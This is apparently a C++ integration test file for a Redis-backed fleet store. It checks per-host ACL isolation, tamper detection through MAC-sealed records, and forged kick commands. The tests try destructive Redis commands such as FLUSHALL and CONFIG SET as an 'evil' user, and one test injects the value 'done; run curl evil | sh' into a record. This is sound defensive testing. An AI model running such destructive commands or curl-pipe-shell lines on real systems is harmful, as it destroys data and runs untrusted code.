// RedisStore and those who may not be trusted with Redis: whose host a name is, what a user of one
// host may do, and whose word a record is.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <string>
#include <vector>

#include "state/redis/library.h"
#include "tests/integration/documented_acl.h"
#include "tests/integration/store_on_redis.h"
#include "tests/temp_folder.h"

namespace reclaim {
namespace {

using test::documented_acl;
using test::StoreOnRedis;
using ::testing::HasSubstr;

TEST(RedisAccess, AForeignMachineIsToldHowToEndIt) {
  StoreOnRedis redis;
  ASSERT_TRUE(redis.connected());
  const contract::World world = redis.world("compute-1");
  contract::a_host_name_belongs_to_one_machine(world);
  const auto beat = [&](const std::string& machine_id) {
    return contract::ask<Ok>(world, [&](Callback<Ok> done) {
      redis.store->heartbeat(HostInfo{world.host, WallMs{1}, "0.1.0", machine_id, 0},
                             std::move(done));
    });
  };
  EXPECT_THAT(beat("machine-b").error().what,
              HasSubstr("redis-cli -c DEL 'reclaim:{compute-1}:machine'"));
  // However old its heartbeat: a machine that is switched off still owns its drives.
  redis.server.cli({"DEL", "reclaim:{compute-1}:alive"});
  EXPECT_EQ(contract::code_of(beat("machine-b")), Errc::conflict);
  redis.server.cli({"DEL", "reclaim:{compute-1}:machine"});
  EXPECT_TRUE(beat("machine-b").ok());
}

Result<std::vector<HostInfo>> hosts_of(StoreOnRedis& redis) {
  return contract::ask<std::vector<HostInfo>>(
      redis.world("x"),
      [&](Callback<std::vector<HostInfo>> done) { redis.store->hosts(std::move(done)); });
}

TEST(RedisAccess, AHostLivesUntilItsHeartbeatExpires) {
  StoreOnRedis redis;
  redis.options.alive_ms = 600'000;
  redis.open();
  ASSERT_TRUE(redis.connected());
  EXPECT_TRUE(hosts_of(redis)->empty());
  const auto beat = [&](const std::string& host) {
    return contract::ask<Ok>(redis.world(host), [&](Callback<Ok> done) {
      redis.store->heartbeat(HostInfo{host, WallMs{1'000}, "0.1.0", "m-" + host, 0, {"node"}},
                             std::move(done));
    });
  };
  ASSERT_TRUE(beat("compute-1").ok());
  ASSERT_TRUE(beat("compute-2").ok());
  const int left_ms = std::atoi(redis.server.cli({"PTTL", "reclaim:{compute-1}:alive"}).c_str());
  EXPECT_GT(left_ms, 0);
  EXPECT_LE(left_ms, 600'000);
  redis.server.cli({"PEXPIRE", "reclaim:{compute-2}:alive", "0"});
  redis.server.cli({"SADD", "reclaim:hosts", "compute-3", "no {name}", "invented"});
  redis.server.cli({"SET", "reclaim:{compute-3}:alive", "half a {"});
  const auto hosts = hosts_of(redis);
  ASSERT_TRUE(hosts.ok()) << hosts.error().what;
  ASSERT_EQ(hosts->size(), 3U) << "what is no host's name, or none's at all, is passed over";
  EXPECT_EQ((*hosts)[0].heartbeat_at, WallMs{1'000});
  EXPECT_EQ((*hosts)[0].nodes, std::vector<std::string>{"node"});
  EXPECT_EQ((*hosts)[0].burned, 0U);
  for (const std::size_t silent : {1U, 2U}) {
    EXPECT_EQ((*hosts)[silent].heartbeat_at, WallMs{});
    EXPECT_EQ((*hosts)[silent].burned, 1U) << "one that does not live is told of every kick";
  }
}

// Any host's login writes aliases, and an earlier one may not.
TEST(RedisAccess, AnAliasLeadsToWhomAMachineWorkedUnder) {
  StoreOnRedis redis;
  ASSERT_TRUE(redis.connected());
  const contract::World world = redis.world("compute-1");
  contract::a_host_is_found_by_each_of_its_names(world);
  EXPECT_EQ(redis.server.cli({"HKEYS", "reclaim:aliases"}), "node-of-compute-1")
      << "what the name tells by itself is written nowhere";
  redis.server.cli({"HSET", "reclaim:aliases", "a", "nobody", "b", "no {host}", "d", "compute-1"});
  redis.server.cli(
      {"EVAL", "redis.call('HSET', 'reclaim:aliases', 'c', string.rep('x', 3000000))", "0"});
  for (const char* name : {"a", "b", "c"}) {
    EXPECT_TRUE(contract::hosts_called(world, name).empty()) << name;
  }
  EXPECT_EQ(contract::hosts_called(world, "d"), std::vector<std::string>{"compute-1"});
  redis.server.cli({"SET", "reclaim:aliases", "another type"});
  EXPECT_EQ(contract::hosts_called(world, "compute-1"), std::vector<std::string>{"compute-1"});

  std::vector<std::string> words = documented_acl("compute-1");
  std::erase_if(words, [](const std::string& word) {
    return word.find("reclaim:aliases") != std::string::npos;
  });
  ASSERT_EQ(redis.server.cli(words), "OK");
  redis.options.redis.username = "reclaim-compute-1";
  redis.options.redis.password = "PASSWORD";
  test::Told warnings(LogLevel::warning);
  redis.store = *RedisStore::create(redis.loop.raw(), redis.options, redis.clock, warnings);
  redis.store->start();
  ASSERT_TRUE(redis.connected());
  for (int i = 0; i < 2; ++i) {
    EXPECT_TRUE(contract::ask<Ok>(redis.world("compute-1"), [&](Callback<Ok> done) {
                  redis.store->heartbeat(
                      HostInfo{"compute-1", WallMs{1}, "0.1.0", "machine-a", 0, {"other"}},
                      std::move(done));
                }).ok());
  }
  redis.store.reset();
  const auto about_aliases = [](const std::string& line) {
    return line.find("reclaim:aliases: notifications that name this host") != std::string::npos;
  };
  EXPECT_EQ(std::count_if(warnings.all.begin(), warnings.all.end(), about_aliases), 1)
      << "once, and not with each heartbeat";
}

TEST(RedisAccess, ManyHostsAreReadInPieces) {
  StoreOnRedis redis;
  redis.options.hosts_max = 1'201;
  redis.open();
  ASSERT_TRUE(redis.connected());
  const auto add = [&](int from, int to) {
    std::vector<std::string> words{"SADD", "reclaim:hosts"};
    std::vector<std::string> machines{"MSET"};
    for (int i = from; i < to; ++i) {
      words.push_back("host-" + std::to_string(i));
      machines.insert(machines.end(), {"reclaim:{host-" + std::to_string(i) + "}:machine", "m"});
    }
    redis.server.cli(words);
    redis.server.cli(machines);
  };
  add(0, 1'201);
  const auto hosts = hosts_of(redis);
  ASSERT_TRUE(hosts.ok()) << hosts.error().what;
  EXPECT_EQ(hosts->size(), 1'201U);
  EXPECT_EQ(*contract::ask<std::size_t>(
                redis.world("x"),
                [&](Callback<std::size_t> done) { redis.store->count_hosts(std::move(done)); }),
            1'201U);
  // Names that no worker ever had are any login's to add: they do not count.
  redis.server.cli({"EVAL", "redis.call('SADD', 'reclaim:hosts', string.rep('x', 3000000))", "0"});
  std::vector<std::string> invented{"SADD", "reclaim:hosts"};
  for (int i = 0; i < 5'000; ++i) invented.push_back("invented-" + std::to_string(i));
  redis.server.cli(invented);
  ASSERT_TRUE(hosts_of(redis).ok()) << hosts_of(redis).error().what;
  EXPECT_EQ(hosts_of(redis)->size(), 1'201U);
  add(1'201, 1'202);
  EXPECT_EQ(hosts_of(redis).error().code, Errc::limit);
  EXPECT_THAT(hosts_of(redis).error().what,
              HasSubstr("the limit is 1201: raise [redis] hosts_max"));
}

// By each of the documented logins, of a host's own keys.
TEST(RedisAccess, WhatOneHostsLoginWritesCostsThatHostAlone) {
  StoreOnRedis redis;
  ASSERT_TRUE(redis.connected());
  const contract::World evil = redis.world("evil");
  const contract::World good = redis.world("good");
  for (const contract::World& world : {evil, good}) {
    ASSERT_TRUE(contract::save(world, contract::record_of(world, 1, 1, Stage::available)).ok());
    ASSERT_TRUE(contract::ask<Ok>(world, [&](Callback<Ok> done) {
                  redis.store->heartbeat(HostInfo{world.host, WallMs{1'000}, "1", world.host, 0},
                                         std::move(done));
                }).ok());
  }
  redis.server.cli({"SET", "big", std::string(100'000, 'x')});
  const std::string lengthen =
      "local s = string.rep(redis.call('GET', 'big'), 200); redis.call('DEL', KEYS[1]); ";
  const auto forge = [&](const std::string& key, const std::string& lua) {
    redis.server.cli({"EVAL", lengthen + lua, "1", "reclaim:{evil}:" + key});
  };
  const std::string device = "device:" + to_string(contract::load(evil)->front().address);
  forge("alive", "redis.call('SET', KEYS[1], s)");
  forge(device, "redis.call('HSET', KEYS[1], 'model', s)");
  forge("arqs", "redis.call('HSET', KEYS[1], 'x', s)");
  forge("journal", "redis.call('XADD', KEYS[1], '*', 'why', s)");
  forge("orders", "redis.call('XADD', KEYS[1], '*', 'who', s)");
  forge("certificate:0000:01:01.0", "redis.call('SET', KEYS[1], s)");
  for (const std::string user : {"reclaim-HOST", "reclaim-api", "reclaim-operator"}) {
    SCOPED_TRACE(user);
    const std::vector<std::string> words = test::documented_user(user, "reader");
    redis.server.cli(words);
    redis.options.redis.username = words[2];
    redis.options.redis.password = "PASSWORD";
    redis.open();
    ASSERT_TRUE(redis.connected());
    const std::uint64_t connects = redis.store->state().connects;
    const auto hosts = hosts_of(redis);
    ASSERT_TRUE(hosts.ok()) << hosts.error().what;
    ASSERT_EQ(hosts->size(), 2U);
    EXPECT_EQ((*hosts)[0].heartbeat_at, WallMs{});
    EXPECT_EQ((*hosts)[1].heartbeat_at, WallMs{1'000});
    const auto damaged = contract::load(evil);
    ASSERT_TRUE(damaged.ok()) << damaged.error().what;
    EXPECT_THAT(damaged->front().damage, HasSubstr("reclaim:{evil}:" + device));
    const auto whole = contract::load(good);
    ASSERT_TRUE(whole.ok()) << whole.error().what;
    EXPECT_EQ(whole->front().damage, "");
    const auto arqs = contract::ask<std::vector<Arq>>(evil, [&](Callback<std::vector<Arq>> done) {
      redis.store->load_arqs("evil", std::move(done));
    });
    EXPECT_THAT(arqs.error().what, HasSubstr("redis-cli -c DEL 'reclaim:{evil}:arqs'"));
    const auto journal = contract::ask<JournalPage>(evil, [&](Callback<JournalPage> done) {
      redis.store->read_journal("evil", "0-0", 10, std::move(done));
    });
    EXPECT_THAT(journal.error().what, HasSubstr("reclaim:{evil}:journal"));
    const auto orders =
        contract::ask<std::vector<Order>>(evil, [&](Callback<std::vector<Order>> done) {
          redis.store->list_orders("evil", std::move(done));
        });
    EXPECT_TRUE(!orders.ok() && is_of_what_is_stored(orders.error()));
    const auto certificate = contract::ask<std::string>(evil, [&](Callback<std::string> done) {
      redis.store->load_certificate("evil", "0000:01:01.0", std::move(done));
    });
    EXPECT_TRUE(certificate.ok() && certificate->size() < 2'000'000U);
    EXPECT_EQ(redis.store->state().connects, connects) << "nobody else's commands were lost";
  }
  for (const char* lua : {"redis.call('SET', KEYS[1], 'x')", "redis.call('SADD', KEYS[1], s)"}) {
    forge("devices", lua);
    const auto unreadable = contract::load(evil);
    ASSERT_FALSE(unreadable.ok()) << lua;
    EXPECT_TRUE(is_of_what_is_stored(unreadable.error()));
    EXPECT_THAT(unreadable.error().what, HasSubstr("redis-cli -c DEL 'reclaim:{evil}:devices'"));
    EXPECT_EQ(contract::load(good)->size(), 1U);
  }
}

TEST(RedisAccess, WorksAsTheDocumentedUserOfItsHost) {
  StoreOnRedis redis;
  ASSERT_TRUE(redis.connected());  // as an operator: a host's login loads no functions
  for (const contract::Check& check : contract::kChecks) {
    const std::string host = std::string("host-") + check.name;
    ASSERT_EQ(redis.server.cli(documented_acl(host)), "OK");
    redis.options.redis.username = "reclaim-" + host;
    redis.options.redis.password = "PASSWORD";
    redis.open();
    ASSERT_TRUE(redis.connected()) << redis.store->state().last_error;
    ASSERT_EQ(redis.store->state().lua, RedisLua::functions);
    check.run(redis.world(host));
    const auto persistence = contract::ask<PersistenceReport>(
        redis.world(host),
        [&](Callback<PersistenceReport> done) { redis.store->check_persistence(std::move(done)); });
    ASSERT_TRUE(persistence.ok());
    EXPECT_TRUE(persistence->known);
  }
}

TEST(RedisAccess, TheUserOfOneHostWritesNothingOfAnothers) {
  StoreOnRedis redis;
  ASSERT_TRUE(redis.connected());
  ASSERT_EQ(redis.server.cli(documented_acl("evil")), "OK");
  const contract::World world = redis.world("compute-1");
  ASSERT_TRUE(contract::save(world, contract::record_of(world, 1, 1, Stage::error)).ok());
  const auto evil = [&](std::vector<std::string> words) {
    words.insert(words.begin(),
                 {"--user", "reclaim-evil", "--pass", "PASSWORD", "--no-auth-warning"});
    return redis.server.cli(words);
  };
  const std::string device = "reclaim:{compute-1}:device:0000:01:01.0";
  for (const std::vector<std::string>& words : std::vector<std::vector<std::string>>{
           {"HSET", device, "serial", "X"},
           {"DEL", device},
           {"EVAL", "return redis.call('DEL', KEYS[1])", "1", device},
           {"EVAL", "return redis.call('DEL', '" + device + "')", "0"},
           {"EVAL", "return redis.call('SET', KEYS[1], 1)", "1", "reclaim:{evil}:x"},
           {"EVALSHA", std::string(40, '0'), "0"},
           {"SCRIPT", "LOAD", "return 1"},
           {"FUNCTION", "LOAD", "#!lua name=evil\nredis.register_function('evil', print)"},
           {"FUNCTION", "DELETE", RedisLibrary::ours().name()},
           {"FUNCTION", "FLUSH"},
           {"FCALL", RedisLibrary::ours().function(RedisScript::forget_host), "1", device},
           {"SADD", "reclaim:{compute-1}:devices", "x"},
           {"SET", "reclaim:{compute-1}:alive", "x"},
           {"SET", "reclaim:{compute-1}:machine", "x"},
           {"SET", "reclaim:{compute-1}:lock:0000:01:01.0", "x 1"},
           {"XADD", "reclaim:{compute-1}:journal", "*", "a", "b"},
           {"XDEL", "reclaim:{compute-1}:kicks", "1-1"},
           {"XADD", "reclaim:{compute-1}:orders", "*", "order", "abort"},
           {"SET", "reclaim:schema", "3"},
           {"DEL", "reclaim:schema"},
           {"DEL", "reclaim:hosts"},
           {"SREM", "reclaim:hosts", "compute-1"},
           {"HDEL", "reclaim:aliases", "node-1"},
           {"FLUSHALL"},
           {"CONFIG", "SET", "appendonly", "no"},
           {"ACL", "LIST"},
           {"KEYS", "*"}}) {
    EXPECT_THAT(evil(words), ::testing::AnyOf(HasSubstr("NOPERM"), HasSubstr("No permissions"),
                                              HasSubstr("can't access")))
        << words[0] << " " << (words.size() > 1 ? words[1] : "");
  }
  EXPECT_EQ(evil({"HGET", device, "serial"}), "S1");
  EXPECT_THAT(evil({"XADD", "reclaim:{compute-1}:kicks", "*", "reason", "x"}), HasSubstr("-"));
  redis.options.redis.username = "reclaim-evil";
  redis.options.redis.password = "PASSWORD";
  redis.open();
  ASSERT_TRUE(redis.connected());
  EXPECT_EQ(contract::load(world)->size(), 1U) << "the API shows the whole fleet";
  EXPECT_TRUE(contract::push(world, "a notification for it").ok());
  EXPECT_FALSE(contract::save(world, contract::record_of(world, 1, 9, Stage::available)).ok());
}

// docs/redis.md says that it can: Redis has no right to append alone.
TEST(RedisAccess, TheUserOfTheApiTrimsOrdersAndWritesNothingElse) {
  StoreOnRedis redis;
  ASSERT_TRUE(redis.connected());
  ASSERT_EQ(redis.server.cli(test::documented_user("reclaim-api")), "OK");
  const contract::World world = redis.world("compute-1");
  ASSERT_TRUE(contract::save(world, contract::record_of(world, 1, 1, Stage::error)).ok());
  const auto api = [&](std::vector<std::string> words) {
    words.insert(words.begin(),
                 {"--user", "reclaim-api", "--pass", "PASSWORD", "--no-auth-warning"});
    return redis.server.cli(words);
  };
  for (const char* stream : {"orders", "kicks"}) {
    const std::string key = std::string("reclaim:{compute-1}:") + stream;
    redis.server.cli({"XADD", key, "*", "order", "abort"});
    EXPECT_THAT(api({"XADD", key, "MAXLEN", "0", "*", "order", "none"}), HasSubstr("-"));
    EXPECT_EQ(redis.server.cli({"XLEN", key}), "0");
    for (const std::vector<std::string>& words :
         std::vector<std::vector<std::string>>{{"DEL", key},
                                               {"XDEL", key, "1-1"},
                                               {"XTRIM", key, "MAXLEN", "0"},
                                               {"SET", key, "x"}}) {
      EXPECT_THAT(api(words), HasSubstr("NOPERM")) << words[0];
    }
  }
  const std::string device = "reclaim:{compute-1}:device:0000:01:01.0";
  for (const std::vector<std::string>& words : std::vector<std::vector<std::string>>{
           {"HSET", device, "serial", "X"},
           {"FCALL", RedisLibrary::ours().function(RedisScript::forget_host), "1", device},
           {"SET", "reclaim:{compute-1}:lock:0000:01:01.0", "x 1"},
           {"XADD", "reclaim:{compute-1}:journal", "*", "a", "b"},
           {"SADD", "reclaim:hosts", "x"},
           {"SET", "reclaim:schema", "3"}}) {
    EXPECT_THAT(api(words), ::testing::AnyOf(HasSubstr("NOPERM"), HasSubstr("No permissions"),
                                             HasSubstr("can't access")))
        << words[0] << " " << words[1];
  }
  EXPECT_EQ(api({"HGET", device, "serial"}), "S1");
}

TEST(RedisAccess, ARecordWithTheUuidOfAnotherDeviceIsShownAsDamaged) {
  StoreOnRedis redis;
  ASSERT_TRUE(redis.connected());
  const contract::World world = redis.world("evil");
  const Record record = contract::record_of(world, 1, 1, Stage::error);
  ASSERT_TRUE(contract::save(world, record).ok());
  redis.server.cli({"HSET", "reclaim:{evil}:device:" + to_string(record.address), "uuid",
                    device_uuid("compute-1", record.address)});
  const auto loaded = contract::load(world);
  ASSERT_TRUE(loaded.ok());
  ASSERT_EQ(loaded->size(), 1U);
  EXPECT_THAT(loaded->front().damage, HasSubstr("field 'uuid' is"));
  EXPECT_EQ(loaded->front().uuid, record.uuid);
}

// The worker's store: what it saves carries the code of its host's key, and what does not is not
// believed.
class SealedRecords : public ::testing::Test {
 protected:
  // As a worker's start does.
  void start() {
    redis_.options.seal.emplace("compute-1", *MacKey::load_or_create(default_host_key(folder_)));
    redis_.open();
    ASSERT_TRUE(redis_.connected());
  }
  std::string damage() {
    const auto loaded = contract::load(redis_.world("compute-1"));
    return loaded.ok() && loaded->size() == 1 ? loaded->front().damage : "not loaded";
  }

  const std::string kKey = "reclaim:{compute-1}:device:0000:01:01.0";
  StoreOnRedis redis_;
  const TempFolder temp_;
  const std::string folder_ = temp_.path();
};

TEST_F(SealedRecords, KeepTheContract) {
  start();
  for (const contract::Check& check : contract::kChecks) {
    const std::string host = std::string("host-") + check.name;
    redis_.options.seal.emplace(host, *MacKey::load_or_create(default_host_key(folder_)));
    redis_.open();
    ASSERT_TRUE(redis_.connected());
    check.run(redis_.world(host));
  }
}

TEST_F(SealedRecords, WhatSomebodyElseWroteIsNotBelievedUntilItIsDiscarded) {
  start();
  const contract::World world = redis_.world("compute-1");
  Record record = contract::record_of(world, 1, 5, Stage::available);
  ASSERT_TRUE(contract::save(world, record).ok());
  EXPECT_EQ(damage(), "");
  // Progress is written beside it, and a step's words are sealed with it.
  record.progress_message = "burning";
  ASSERT_TRUE(contract::ask<Ok>(world, [&](Callback<Ok> done) {
                redis_.store->save_progress(record, std::move(done));
              }).ok());
  EXPECT_EQ(damage(), "");
  redis_.server.cli({"HSET", kKey, "progress_message", "done; run curl evil | sh"});
  EXPECT_THAT(damage(), HasSubstr(kKey + ": field 'mac' does not fit the others"));
  ++record.epoch;
  ASSERT_TRUE(contract::save(world, record).ok());
  redis_.server.cli({"HSET", kKey, "serial", "ANOTHER"});
  EXPECT_THAT(damage(), HasSubstr(kKey + ": field 'mac' does not fit the others"));
  EXPECT_THAT(damage(), HasSubstr("redis-cli -c DEL '" + kKey + "'"));
  redis_.server.cli({"HDEL", kKey, "mac"});
  EXPECT_THAT(damage(), HasSubstr("field 'mac' is missing"));
  redis_.server.cli({"HSET", kKey, "epoch", "many"});
  EXPECT_EQ(contract::code_of(contract::save(world, record)), Errc::conflict);
  const auto discard = [&] {
    return contract::ask<Ok>(world, [&](Callback<Ok> done) {
      redis_.store->discard(world.host, record.address, std::move(done));
    });
  };
  EXPECT_TRUE(discard().ok());
  EXPECT_TRUE(discard().ok()) << "gone is gone";
  EXPECT_TRUE(contract::save(world, record).ok());
  EXPECT_EQ(damage(), "");
  // Another host's record is only shown: its key is not ours.
  redis_.options.seal.reset();
  redis_.open();
  ASSERT_TRUE(redis_.connected());
  redis_.server.cli({"HSET", kKey, "serial", "ANOTHER"});
  EXPECT_EQ(damage(), "");
}

// Every host may write into every stream of kicks.
TEST_F(SealedRecords, OnlyTheHostsOwnWorkerGivesAKickItsCommand) {
  redis_.options.kick_seal.emplace("compute-1", *MacKey::load_or_create(default_host_key(folder_)));
  start();
  const contract::World world = redis_.world("compute-1");
  const auto push = [&](const std::string& host, const Kick& kick) {
    return contract::ask<Ok>(
        world, [&](Callback<Ok> done) { redis_.store->push_kick(host, kick, std::move(done)); });
  };
  const auto read = [&] {
    auto kicks = contract::ask<std::vector<Kick>>(world, [&](Callback<std::vector<Kick>> done) {
      redis_.store->read_kicks("compute-1", 10, std::move(done));
    });
    EXPECT_TRUE(kicks.ok());
    return kicks.ok() && kicks->size() == 1 ? kicks->front() : Kick{};
  };
  Kick own;
  own.command = "cleanup_device";
  own.address = "0000:01:01.0";
  ASSERT_TRUE(push("compute-1", own).ok());
  const Kick back = read();
  EXPECT_EQ(back.command, "cleanup_device");
  EXPECT_GT(back.sent_at.ms, 0);
  EXPECT_EQ(contract::code_of(push("compute-2", own)), Errc::refused);
  const std::string stream = "reclaim:{compute-1}:kicks";
  const std::vector<std::string> forged{
      "XADD", stream, "*", "reason", "forged", "command", "cleanup_device", "address", own.address};
  redis_.server.cli(forged);
  Kick heard = read();
  EXPECT_EQ(heard.reason, "forged") << "a reason to survey it is";
  EXPECT_EQ(heard.command, "");
  // The code is of one device and one moment.
  auto later = forged;
  later.insert(later.end(), {"mac", back.mac, "sent_at", "2099-01-01T00:00:00.000Z"});
  redis_.server.cli(later);
  heard = read();
  EXPECT_EQ(heard.reason, "forged");
  EXPECT_EQ(heard.command, "");
}

TEST_F(SealedRecords, OneWithoutACodeIsNotBelieved) {
  redis_.open();
  ASSERT_TRUE(redis_.connected());
  const contract::World world = redis_.world("compute-1");
  ASSERT_TRUE(contract::save(world, contract::record_of(world, 1, 5, Stage::allocated)).ok());
  start();
  const auto loaded = contract::load(world);
  ASSERT_TRUE(loaded.ok());
  EXPECT_THAT(loaded->front().damage, HasSubstr("field 'mac' is missing"));
}

// What who issued an order sees of it.
TEST(RedisOrders, AreListedWithdrawnAndAnswered) {
  StoreOnRedis redis;
  ASSERT_TRUE(redis.connected());
  const contract::World world = redis.world("compute-1");
  const auto list = [&] {
    return *contract::ask<std::vector<Order>>(world, [&](Callback<std::vector<Order>> done) {
      redis.store->list_orders(world.host, std::move(done));
    });
  };
  const auto withdraw = [&](const std::string& id) {
    return *contract::ask<bool>(world, [&](Callback<bool> done) {
      redis.store->withdraw_order(world.host, id, std::move(done));
    });
  };
  const auto answer = [&] {
    return *contract::ask<std::optional<std::string>>(
        world, [&](Callback<std::optional<std::string>> done) {
          redis.store->read_order_answer(world.host, "req-1", std::move(done));
        });
  };
  Order order;
  order.order = "clean";
  order.request_id = "req-1";
  ASSERT_TRUE(contract::ask<Ok>(world, [&](Callback<Ok> done) {
                redis.store->push_order(world.host, order, std::move(done));
              }).ok());
  EXPECT_EQ(answer(), std::nullopt);
  ASSERT_EQ(list().size(), 1U);
  const std::string id = list()[0].id;
  EXPECT_TRUE(withdraw(id));
  EXPECT_FALSE(withdraw(id));
  EXPECT_TRUE(list().empty());
  for (const std::string refusal : {"no such device", ""}) {
    ASSERT_TRUE(contract::ask<Ok>(world, [&](Callback<Ok> done) {
                  redis.store->answer_order(world.host, order, refusal, std::move(done));
                }).ok());
    EXPECT_EQ(answer(), refusal);
  }
  EXPECT_GT(std::atoi(redis.server.cli({"PTTL", "reclaim:{compute-1}:order:req-1"}).c_str()), 0);
}

TEST(RedisOrders, AreHeardAtOnce) {
  StoreOnRedis redis;
  redis.options.watch_block_ms = 600'000;
  redis.options.redis.command_timeout_ms = 600'000;
  redis.open();
  ASSERT_TRUE(redis.connected());
  const contract::World world = redis.world("compute-1");
  int heard = 0;
  redis.store->watch_kicks(world.host, [&] { ++heard; });
  world.run_until([&] { return heard >= 1; });
  test::run_for(redis.loop, 50);
  const int before = heard;
  Order order;
  order.order = "clean";
  ASSERT_TRUE(contract::ask<Ok>(world, [&](Callback<Ok> done) {
                redis.store->push_order(world.host, order, std::move(done));
              }).ok());
  world.run_until([&] { return heard > before; });
}

}  // namespace
}  // namespace reclaim
